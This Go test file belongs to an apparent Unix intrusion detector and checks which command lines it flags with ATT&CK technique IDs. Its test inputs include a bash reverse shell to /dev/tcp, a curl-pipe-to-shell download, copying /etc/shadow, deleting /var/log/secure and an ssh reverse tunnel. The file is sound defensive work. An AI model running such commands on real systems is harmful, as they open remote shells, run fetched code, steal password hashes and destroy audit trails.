package unixhost

import (
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"seawall/internal/activity"
	"seawall/internal/finding"
	"seawall/internal/intrusion/summarytest"
	"seawall/record"
)

func ran(line, user string, number int, after time.Duration) activity.Activity {
	return activity.Activity{
		Class: activity.ProcessStart, Time: summarytest.At(after), Host: "host1", Actor: activity.Actor{User: user}, Process: &activity.Process{CommandLine: line},
		Origin: record.Origin{Path: "audit.log", Offset: int64(number) * 100, Length: 90, Number: uint64(number)},
	}
}

func TestCommandsOfIntrudersAreFoundAndOrdinaryOnesAreNot(t *testing.T) {
	f := func(line string, want string) {
		t.Helper()
		got := ""
		for _, found := range summarytest.Run(Detector(), []activity.Activity{ran(line, "root", 1, 0)}) {
			got += found.Severity.String() + " " + strings.Join(found.Techniques, ",")
		}
		if got != want {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
	f("iptables -A INPUT -p tcp --dport 9998 -j ACCEPT", "high T1562.004,T1571")
	f("iptables-save", "")
	f("/tmp/.svc/kworkerd -D 9090 -p 443 192.0.2.77", "high T1090,T1572")
	f("docker run -d -p 443 192.0.2.77", "")
	f("nmcli -f 80 -p 22 router", "")
	f("iptables -L", "")
	f("/sbin/iptables -F", "high T1562.004")
	f(`bash -c "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"`, "critical T1059.004,T1095")
	f("sh -c 'curl http://192.0.2.1/x | sh'", "high T1059.004,T1105")
	f("curl https://updates.example/list", "")
	f("cp /etc/shadow /tmp/s", "high T1003.008")
	f("ls -l /etc/shadow", "")
	f("/dev/shm/.x --connect", "medium T1036.005,T1059.004")
	f("ssh -R 9000:localhost:22 user@192.0.2.1", "high T1090,T1572")
	f("ssh admin@10.0.0.1", "")
	f("rm -f /var/log/secure", "high T1070.002,T1070.003")
	f("find /var/log -name *.gz -mtime +30", "")
	f("passwd sshuser", "low T1098,T1136.001")
	f("logrotate /etc/logrotate.conf", "")
	f("pam_unix(passwd:chauthtok): password changed for sshuser", "medium T1098")
	f("", "")
}

func TestABurstNeedsDifferentCommandsAndAServiceMakesItGrave(t *testing.T) {
	burst := func(user string, lines ...string) (all []activity.Activity) {
		for i, l := range lines {
			all = append(all, ran(l, user, i, time.Duration(i)*time.Minute))
		}
		return all
	}
	f := func(name string, want finding.Severity, found []finding.Finding) {
		t.Helper()
		if want == finding.Informational {
			if len(found) != 0 {
				t.Errorf("%s: %+v", name, found)
			}
		} else if len(found) != 1 || found[0].Severity != want {
			t.Errorf("%s: %+v", name, found)
		}
	}
	commands := []string{"sh -c id", "sh -c 'uname -a; cat /etc/passwd'", "netstat -antp", "ps aux"}
	f("a service", finding.High, summarytest.Run(Detector(), burst("tomcat", commands...)))
	f("an administrator", finding.Medium, summarytest.Run(Detector(), burst("admin", commands...)))
	unattended, byServer := burst("uid 1001", commands...), burst("", commands...)
	daily := append([]activity.Activity{}, unattended...)
	for i := range unattended {
		unattended[i].Process.Unattended = true
	}
	byServer[1].Process.ParentImage = "/usr/lib/jvm/java-8/bin/java"
	f("outside of any session", finding.High, summarytest.Run(Detector(), unattended))
	f("started by a web server", finding.High, summarytest.Run(Detector(), byServer))
	for day := range 2 {
		for _, a := range unattended {
			a.Time += int64(day+1) * int64(24*time.Hour)
			daily = append(daily, a)
		}
	}
	f("on three days", finding.Low, summarytest.Run(Detector(), daily)[:1])
	f("one command over and over", finding.Informational, summarytest.Run(Detector(), burst("tomcat", "ps aux", "ps aux", "ps ax", "ps -ef", "ps")))
}

func TestSummaryKeepsItsPromises(t *testing.T) {
	summarytest.Check(t, Detector(), func(t *rapid.T, number int) activity.Activity {
		line := rapid.SampledFrom([]string{"id", "uname -a", "ps aux", "netstat -an", "cat /etc/passwd", "passwd x", "iptables -A INPUT -j ACCEPT", "iptables -F", "ls"}).Draw(t, "line")
		return ran(line, rapid.SampledFrom([]string{"root", "tomcat"}).Draw(t, "user"), number, time.Duration(rapid.IntRange(0, 300).Draw(t, "minute"))*time.Minute)
	})
}

func FuzzCommands(f *testing.F) {
	for _, seed := range []string{"sh -c 'id; uname -a'", "bash -c \"", "/bin/sh -c ", "iptables -A INPUT", "|;&"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, line string) {
		for part := range commands(line) {
			c := newCommand(part)
			lookOf(&c)
			for i := range signs {
				signs[i].shows(&c)
			}
		}
	})
}
